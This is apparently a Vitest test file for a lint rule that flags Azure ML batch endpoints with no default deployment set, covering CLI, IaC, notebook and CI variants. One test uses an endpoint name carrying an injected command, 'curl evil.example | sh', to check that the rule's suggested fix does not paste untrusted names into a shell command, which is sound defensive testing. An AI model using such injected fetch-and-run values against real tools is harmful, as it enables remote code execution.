import { expect, test } from 'vitest';
import { expectMarks, type Files, run } from '../../../test/rules/marked.ts';
import { defaultConfig } from '../../config/config.ts';
import { unroutableInvocation } from '../unroutable-invocation/rule.ts';
import { noDefaultDeployment } from './rule.ts';

const rules = [noDefaultDeployment];
const schema = '$schema: https://azuremlschemas.azureedge.net/latest/batchEndpoint.schema.json\n';
const endpoint = `${schema}name: churn\nauth_mode: aad_token\n`;
const other = `${schema}name: other\n`;
const deployment = (name: string, of = 'churn') =>
  `name: ${name}\nendpoint_name: ${of}\ntype: model\nmodel: azureml:m:1\ncompute: azureml:c\n`;
const base = { 'endpoint.yml': endpoint, 'deployment.yml': deployment('blue') };
const create = 'az ml batch-deployment create -f deployment.yml';

function findings(files: Files): number {
  return run(rules, { ...base, ...files }).findings.length;
}

/** A notebook with one code cell. */
function notebook(...lines: readonly string[]): string {
  const source = lines.map((line) => `${line}\n`);
  return JSON.stringify({
    cells: [{ cell_type: 'code', source, metadata: {}, outputs: [] }],
    metadata: {},
    nbformat: 4,
  });
}

test.each(['"x; curl evil.example | sh"', '-x'])('the command to be pasted has no name like %s', (name) => {
  const files = {
    'endpoint.yml': endpoint.replace('churn', name),
    'deployment.yml': deployment(name, name),
  };
  expect(run(rules, files).findings.map(({ message }) => message)).toEqual([
    expect.stringContaining('update --name <endpoint> --set defaults.deployment_name=<deployment>"'),
  ]);
});

test('an endpoint with one deployment and no default', () => {
  const { findings: found } = expectMarks(rules, {
    'endpoint.yml': `${schema}name: churn
#     ^^^^^ no-default-deployment
`,
    'deployment.yml': deployment('blue'),
    'deploy.sh': `az ml batch-endpoint create -f endpoint.yml\n${create}\n`,
  });
  expect(found[0]?.message).toBe(
    'Nothing in the repository sets the default deployment of the batch endpoint "churn", so an invocation that names no ' +
      'deployment has nowhere to go. After the deployment is created, run "az ml batch-endpoint update --name churn ' +
      '--set defaults.deployment_name=blue", or create it with "--set-default".',
  );
  expect(found[0]?.subjects).toEqual([{ entity: 'batch endpoint', name: 'churn', field: 'defaults.deployment_name' }]);
  expect(found[0]?.related).toMatchObject([
    { at: { file: 'deployment.yml' }, message: 'The batch deployment "blue" belongs to it.' },
  ]);
});

test('two endpoints', () => {
  expectMarks(rules, {
    'a/endpoint.yml': `${schema}name: churn
#     ^^^^^ no-default-deployment
`,
    'a/deployment.yml': deployment('blue'),
    'b/endpoint.yml': `${schema}name: other
#     ^^^^^ no-default-deployment
`,
    'b/deployment.yml': deployment('red', 'other'),
  });
});

test('an endpoint without deployments here is no business of ours', () => {
  expect(run(rules, { 'endpoint.yml': endpoint }).findings).toEqual([]);
  expect(run(rules, { 'endpoint.yml': endpoint, 'd.yml': deployment('x', 'elsewhere') }).findings).toEqual([]);
});

test('the YAML says it', () => {
  expect(findings({ 'endpoint.yml': `${endpoint}defaults:\n  deployment_name: blue\n` })).toBe(0);
  expect(findings({ 'update.yml': `${endpoint}defaults:\n  deployment_name: blue\n` })).toBe(0);
  expect(findings({ 'endpoint.yml': `${endpoint}defaults: {}\n` })).toBe(1);
});

const update = 'az ml batch-endpoint update --name churn --set defaults.deployment_name=blue';
const ways: readonly (readonly [string, Files])[] = [
  ['--set-default', { 'deploy.sh': `${create} --set-default\n` }],
  ['--set-default on a continued line', { 'deploy.sh': `${create} \\\n  --set-default\n` }],
  ['--set-default beside names', { 'deploy.sh': `${create} -n blue -e churn --set-default\n` }],
  ['batch-endpoint update --set', { 'deploy.sh': `${update}\n` }],
  ['batch-endpoint update --set in quotes', { 'deploy.sh': update.replace('--set ', '--set "').concat('"\n') }],
  [
    'batch-endpoint update --defaults',
    { 'deploy.sh': 'az ml batch-endpoint update -n churn --defaults deployment_name=blue\n' },
  ],
  [
    'batch-endpoint create --set',
    { 'deploy.sh': 'az ml batch-endpoint create -f endpoint.yml --set defaults.deployment_name=blue\n' },
  ],
  ['an endpoint in a variable with a literal', { 'deploy.sh': `E=churn\n${update.replace('churn', '$E')}\n` }],
  ['an endpoint of whose name a variable is a part', { 'deploy.sh': `${update.replace('churn', 'ch$REST')}\n` }],
  ['an endpoint in a variable from outside', { 'deploy.sh': `${update.replace('churn', '$E')}\n` }],
  [
    'a bash array',
    { 'deploy.sh': `args=(-f deployment.yml)\nargs+=(--set-default)\naz ml batch-deployment create "\${args[@]}"\n` },
  ],
  [
    'a PowerShell array',
    { 'deploy.ps1': "$a = @('-f', 'deployment.yml')\n$a += '--set-default'\naz ml batch-deployment create @a\n" },
  ],
  [
    'PowerShell back-ticks',
    { 'deploy.ps1': 'az ml batch-deployment create `\n  -f deployment.yml `\n  --set-default\n' },
  ],
  [
    'a workflow',
    {
      '.github/workflows/d.yml': `on: push\njobs:\n  d:\n    runs-on: x\n    steps:\n      - run: |\n          ${create} --set-default\n`,
    },
  ],
  [
    'a folded step',
    {
      '.github/workflows/d.yml': `on: push\njobs:\n  d:\n    runs-on: x\n    steps:\n      - run: >\n          ${create}\n          --set-default\n`,
    },
  ],
  [
    'a composite action',
    {
      'deploy/action.yml': `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${create} --set-default\n`,
    },
  ],
  ['Azure Pipelines', { 'azure-pipelines.yml': `steps:\n  - script: ${create} --set-default\n` }],
  [
    'an Azure CLI task',
    {
      'azure-pipelines.yml': `steps:\n  - task: AzureCLI@2\n    inputs:\n      scriptType: bash\n      inlineScript: |\n        ${update}\n`,
    },
  ],
  ['a Makefile', { Makefile: `deploy:\n\t${create} --set-default\n` }],
  ['a notebook', { 'n.ipynb': notebook(`!${create} --set-default`) }],
  ['a comment', { 'deploy.sh': `# once: ${create} --set-default\n` }],
  ['a comment of the endpoint', { 'endpoint.yml': `# ${update}\n${endpoint}` }],
  ['a fenced block of Markdown', { 'README.md': `# How\n\n\`\`\`bash\n${update}\n\`\`\`\n` }],
  ['a line of Markdown', { 'README.md': `Then run \`${create} --set-default\` once.\n` }],
  [
    'an attribute',
    { 'd.py': 'endpoint = client.batch_endpoints.get("churn")\nendpoint.defaults.deployment_name = "blue"\n' },
  ],
  [
    'a subscript',
    { 'd.py': 'endpoint = client.batch_endpoints.get("churn")\nendpoint.defaults["deployment_name"] = "blue"\n' },
  ],
  [
    'a constructor',
    { 'd.py': 'e = BatchEndpoint(name="churn", defaults=BatchEndpointDefaults(deployment_name="blue"))\n' },
  ],
  ['an object', { 'd.py': 'e = client.batch_endpoints.get("churn")\ne.defaults = {"deployment_name": "blue"}\n' }],
  ['a keyword of old', { 'd.py': 'e = BatchEndpoint(name="churn", default_deployment_name="blue")\n' }],
  [
    'a call in a notebook',
    {
      'n.ipynb': notebook(
        'endpoint = client.batch_endpoints.get("churn")',
        'endpoint.defaults.deployment_name = d.name',
      ),
    },
  ],
  [
    'a request',
    { 'd.http': 'PATCH /batchEndpoints/churn\n\n{"properties": {"defaults": {"deploymentName": "blue"}}}\n' },
  ],
  [
    'ARM',
    { 'main.json': '{"type": "M/workspaces/batchEndpoints", "properties": {"defaults": {"deploymentName": "blue"}}}' },
  ],
  [
    'Bicep',
    {
      'main.bicep':
        "resource e 'M/workspaces/batchEndpoints@2024-01-01' = { properties: { defaults: { deploymentName: 'blue' } } }",
    },
  ],
  [
    'Terraform',
    {
      'main.tf':
        'resource "azapi_resource" "e" {\n type = "M/workspaces/batchEndpoints"\n body = { properties = { defaults = { deploymentName = "blue" } } }\n}',
    },
  ],
  [
    'a route to elsewhere',
    {
      '.github/workflows/d.yml':
        'on: push\njobs:\n  d:\n    uses: org/flows/.github/workflows/deploy.yml@v1\n    with:\n      file: deployment.yml\n',
    },
  ],
];

test.each(ways)('%s', (_, files) => {
  expect(findings(files)).toBe(0);
});

const online = 'az ml online-deployment create -f online.yml --all-traffic';
const nearMisses: readonly (readonly [string, Files])[] = [
  ['another endpoint by --set', { 'deploy.sh': `${update.replace('churn', 'other')}\n` }],
  [
    'another endpoint of whose name a variable is a part',
    { 'deploy.sh': `${update.replace('churn', '"other-$STAGE"')}\n` },
  ],
  [
    'another endpoint by --set-default',
    { 'deploy.sh': 'az ml batch-deployment create -f o.yml --set-default\n', 'o.yml': deployment('red', 'other') },
  ],
  [
    'another endpoint by its name',
    { 'deploy.sh': 'az ml batch-deployment create -f o.yml -e other --set-default\n', 'o.yml': deployment('red', 'x') },
  ],
  ['another endpoint by its YAML', { 'other.yml': `${other}defaults:\n  deployment_name: red\n` }],
  [
    'another endpoint in a workflow',
    {
      '.github/workflows/d.yml': `on: push\njobs:\n  d:\n    runs-on: x\n    steps:\n      - run: ${update.replace('churn', 'other')}\n`,
    },
  ],
  ['another endpoint in a notebook', { 'n.ipynb': notebook(`!${update.replace('churn', 'other')}`) }],
  ['--set of another key', { 'deploy.sh': 'az ml batch-endpoint update --name churn --set default_deployment=blue\n' }],
  ['--set of another key in a deployment', { 'deploy.sh': `${create} --set default_deployment=blue\n` }],
  [
    'an online endpoint',
    { 'deploy.sh': `${online}\naz ml online-endpoint update --name churn --traffic "blue=100"\n` },
  ],
  ['az configure', { 'deploy.sh': `az configure --defaults group=g workspace=w\n${create}\n` }],
  ['a query', { 'deploy.sh': 'az ml batch-endpoint show --name churn --query defaults.deployment_name\n' }],
  ['a command with all its words', { 'deploy.sh': `${create} --endpoint-name churn --name blue --no-wait\n` }],
];

test.each(nearMisses)('%s sets no default here', (_, files) => {
  expect(findings(files)).toBe(1);
});

test('the configuration says it', () => {
  const at = { file: '.azureml-batch-lint.yml', span: { start: 0, end: 0 } };
  const known = (name: string, entry: object) => ({
    config: { known: { ...defaultConfig.known, endpoints: new Map([[name, { at, ...entry }]]) } },
  });
  expect(run(rules, base, known('Churn', { default: 'blue' })).findings).toEqual([]);
  expect(run(rules, base, known('churn', {})).findings).toHaveLength(1);
  expect(run(rules, base, known('other', { default: 'blue' })).findings).toHaveLength(1);
});

test('a template in the defaults leaves it undecided', () => {
  const { findings: found, undecided } = run(rules, {
    ...base,
    'endpoint.yml': `${endpoint}defaults:\n  deployment_name: \${DEPLOYMENT}\n`,
  });
  expect(found).toEqual([]);
  expect(undecided.map(({ because }) => because)).toEqual(['"deployment_name" is filled in by a template']);
});

test('what is mentioned and not read leaves it undecided', () => {
  const { undecided } = run(rules, { ...base, 'd.py': 'batch_endpoint.defaults.deployment_name = x\n' });
  expect(undecided.map(({ because }) => because)).toEqual([expect.stringContaining('"d.py"')]);
});

const invoke = 'az ml batch-endpoint invoke --name churn --input data';

test('every invocation names its deployment', () => {
  expect(findings({ 'run.sh': `${invoke} --deployment-name blue\n` })).toBe(0);
  expect(findings({ 'run.sh': `${invoke} -d $D\n`, 'b.sh': `${invoke.replace('churn', '$E')} -d blue\n` })).toBe(0);
  expect(findings({ 'run.sh': `${invoke.replace('churn', '$E')} -d blue\n` })).toBe(0);
  expect(findings({ 'README.md': `\`\`\`bash\n${invoke} -d blue\n\`\`\`\n` })).toBe(0);
});

test('some invocation names none', () => {
  expect(findings({ 'run.sh': `${invoke} -d blue\n${invoke}\n` })).toBe(1);
  expect(findings({ 'run.sh': `${invoke}\n`, 'README.md': `\`\`\`bash\n${invoke} -d blue\n\`\`\`\n` })).toBe(1);
  expect(findings({ 'run.sh': `${invoke.replace('churn', 'other')} -d red\n` })).toBe(1);
});

test('a deployment whose endpoint is not known may belong to it, if nothing sets any default', () => {
  const variable = { 'endpoint.yml': endpoint, 'deployment.yml': deployment('blue', '${' + 'ENDPOINT}') };
  const { findings: found } = run(rules, variable);
  expect(found.map(({ related }) => related.map(({ message }) => message))).toEqual([
    ['The batch deployment "blue" may belong to it.'],
  ]);
  for (const files of [
    { 'a.sh': `${update.replace('churn', 'other')}\n` },
    { 'o.yml': `${other}defaults:\n  deployment_name: red\n` },
  ]) {
    const { findings: none, undecided } = run(rules, { ...variable, ...files });
    expect(none).toEqual([]);
    expect(undecided.map(({ because }) => because)).toEqual(['the endpoint of the deployment "blue" is not known']);
  }
  const far = { 'a/endpoint.yml': endpoint, 'b/endpoint.yml': other, 'b/d.yml': deployment('blue', '${' + 'E}') };
  expect(run(rules, far).findings.map(({ at }) => at.file)).toEqual(['b/endpoint.yml']);
});

test('a name that commands give', () => {
  const scripts = { 'deploy.sh': `az ml batch-endpoint create -f endpoint.yml -n $E\n${create} -e $E\n` };
  expectMarks(rules, {
    ...scripts,
    'endpoint.yml': `${schema}name: churn
#     ^^^^^ no-default-deployment
`,
    'deployment.yml': deployment('blue'),
  });
  expect(
    findings({
      'deploy.sh': `${scripts['deploy.sh']}az ml batch-endpoint update -n $E --set defaults.deployment_name=x\n`,
    }),
  ).toBe(0);
});

test('folders for two stages with equal names: a default in one silences both', () => {
  const stage = (name: string, text: string) => ({
    [`${name}/endpoint.yml`]: text,
    [`${name}/d.yml`]: deployment('blue'),
  });
  const withDefault = `${endpoint}defaults:\n  deployment_name: blue\n`;
  expect(run(rules, { ...stage('dev', endpoint), ...stage('prod', withDefault) }).findings).toEqual([]);
  expect(run(rules, { ...stage('dev', endpoint), ...stage('prod', endpoint) }).findings).toHaveLength(2);
});

test('an invocation that certainly fails speaks for itself', () => {
  const files = { ...base, 'd2.yml': deployment('green'), 'run.sh': `${invoke}\n` };
  const { findings: found } = run([noDefaultDeployment, unroutableInvocation], files);
  expect(found.map(({ rule }) => rule)).toEqual(['unroutable-invocation']);
});

test('online endpoints are left alone', () => {
  const silent = run(rules, {
    'endpoint.yml': '$schema: https://x/managedOnlineEndpoint.schema.json\nname: churn\nauth_mode: key\n',
    'deployment.yml': 'name: blue\nendpoint_name: churn\nmodel: azureml:m:1\ninstance_type: Standard_DS3_v2\n',
  });
  expect(silent.findings).toEqual([]);
});

test('a default that code sets by the same words as it names its endpoint is that of the endpoint', () => {
  const code = (other: string) => `from azure.ai.ml.entities import BatchEndpoint, ModelBatchDeployment
name = args.endpoint
client.begin_create_or_update(BatchEndpoint(name=name))
client.begin_create_or_update(ModelBatchDeployment(name="blue", endpoint_name=name))
e = client.batch_endpoints.get(${other})
e.defaults.deployment_name = "blue"
client.begin_create_or_update(e)
`;
  const same = run(rules, { 'deploy.py': code('name') });
  expect([same.findings, same.undecided]).toEqual([[], []]);
  const other = run(rules, { 'deploy.py': code('other_name') });
  expect([other.findings.length, other.undecided.length]).toEqual([0, 1]);
});
